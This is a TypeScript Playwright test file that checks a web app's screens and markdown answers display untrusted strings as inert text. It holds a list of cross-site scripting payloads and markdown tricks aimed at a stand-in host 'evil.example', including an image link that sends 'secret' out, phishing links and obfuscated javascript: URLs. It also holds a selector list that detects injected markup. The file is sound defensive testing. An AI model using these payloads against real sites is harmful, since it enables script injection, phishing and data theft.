/**
 * WEB-4 against every string that a server, a registry or another person chooses: each holds a script, a picture, a link
 * or markdown that would run or send something. It is shown as the text that it is; nothing runs, nothing is requested.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { createFullHouse } from './full-house.ts'
import { launchChromium, openPage, shows } from './open-page.ts'
import { openScreen, visitScreens } from './visit-screens.ts'

const EVIL = 'https://evil.example'

const PAYLOADS: Readonly<Record<string, string>> = {
  'a script': '<script>ran(1)</script>',
  'a picture that fails': '<img src=x onerror=ran(2)>',
  'an attribute that is broken out of': '"\'><svg onload=ran(3)><a href="javascript:ran(4)">',
  'a frame': `<iframe srcdoc="<script>parent.ran(5)</script>" src="${EVIL}/f"></iframe>`,
  'a style that loads': `<style>@import "${EVIL}/s"</style><p style="background:url(${EVIL}/b)">`,
  'a base and a refresh': `<base href="${EVIL}/"><meta http-equiv=refresh content="0;${EVIL}/r">`,
  'a form': `<form action="${EVIL}/form"><button autofocus onfocus=ran(6)>Sign in</button></form>`,
  'an address that is a script': 'javascript:ran(7)',
  'a namespace that mutates':
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ran(8)>">',
}

/** Elements and attributes that no screen of the page has: a payload that became markup has one of them. */
const FORBIDDEN =
  'script:not([src="/app.js"]), iframe, object, embed, base, style, main img, svg [onload], [onerror], [onclick], [style], meta[http-equiv], form[action]'

async function assertNoMarkup(page: Page, address: string): Promise<void> {
  assert.equal(await page.locator(FORBIDDEN).count(), 0, `markup on ${address}`)
  for (const link of await page.locator('a[href]').all()) {
    assert.match((await link.getAttribute('href')) ?? '', /^(?:#|https?:\/\/)/)
  }
}

describe('what others wrote', () => {
  let browser: Browser
  before(async () => {
    browser = await launchChromium()
  })
  after(() => browser.close())

  for (const [name, payload] of Object.entries(PAYLOADS)) {
    test(`WEB-4: ${name} is text on every screen`, async (t) => {
      const said = new Set<string>()
      const house = createFullHouse((where) => {
        said.add(where)
        return `§${where}:${payload}`
      })
      const { page, web } = await openPage(browser, t, house)
      await page.goto(web.createLink().url)
      let seen = ''
      await visitScreens(page, async (address) => {
        if (address === '#/chat') await talk(page)
        await openAll(page)
        await assertNoMarkup(page, address)
        seen += (await page.evaluate('document.body.innerText')) as string
      })
      const shown = [...said].filter((where) => seen.includes(`§${where}:`))
      // Otherwise the test would pass because the screens are empty.
      assert.deepEqual(
        [...said].filter((where) => !shown.includes(where) && !NOT_SHOWN.has(where)),
        [],
      )
    })
  }

  test('WEB-4: markdown of an answer runs nothing and loads nothing', async (t) => {
    const { page, web } = await openPage(browser, t, {
      ...createFullHouse((where) => (where === 'answer' ? MARKDOWN : where)),
    })
    await page.goto(web.createLink().url)
    await openScreen(page, '#/chat')
    await talk(page)
    await page.locator('.markdown strong').first().waitFor() // it was read as markdown
    await assertNoMarkup(page, '#/chat')
    const text = (await page.locator('.markdown').first().innerText()).replaceAll(/\s+/g, ' ')
    for (const shown of [
      `[picture: exfil ${EVIL}/p.png?d=secret]`,
      'run me (javascript:ran(11))',
      `bank (${EVIL}/phish)`,
    ]) {
      assert.ok(text.includes(shown), `${shown} is not in ${text}`)
    }
    for (const link of await page.locator('.markdown a').all()) {
      const rel = await link.getAttribute('rel')
      assert.deepEqual([rel, await link.getAttribute('target')], ['noopener noreferrer', '_blank'])
      assert.equal(await link.innerText(), await link.getAttribute('href')) // shown in full
    }
  })
})

const MARKDOWN = [
  '**Read as markdown.**',
  `![exfil](${EVIL}/p.png?d=secret)`,
  `![inline](data:image/svg+xml,<svg/onload=ran(10)>)`,
  `[run me](javascript:ran(11))`,
  `[run me](jav&#x09;ascript:ran(12))`,
  `[bank](${EVIL}/phish)`,
  `[![nested](${EVIL}/n.png)](javascript:ran(13))`,
  `[ref]: javascript:ran(14)`,
  `[by reference][ref] and ![by reference][pic]`,
  `[pic]: ${EVIL}/q.png "title"`,
  `<javascript:ran(15)>`,
  `<img src="${EVIL}/h.png" onerror=ran(16)><script>ran(17)</script>`,
  `- item\n  > quote <iframe src="${EVIL}/i"></iframe>\n\n  | a | b |\n  |---|---|\n  | ![t](${EVIL}/t.png) | [x](data:text/html,<script>ran(18)</script>) |`,
  '```html\n<script>ran(19)</script>\n```',
  `# heading <img src=${EVIL}/head.png onerror=ran(20)>`,
  `~~deleted **bold ![x](${EVIL}/deep.png)**~~`,
].join('\n\n')

/** Strings of the answers that no screen shows yet. */
const NOT_SHOWN: ReadonlySet<string> = new Set('because,title,tool text,item'.split(','))

/** Opens every folded part, so that its text is checked too. */
async function openAll(page: Page): Promise<void> {
  await page.evaluate('for (const one of document.querySelectorAll("details")) one.open = true')
}

async function talk(page: Page): Promise<void> {
  await page.getByLabel('Message').fill('what is new?')
  await page.keyboard.press('Enter')
  await shows(page, 'That is all.')
}
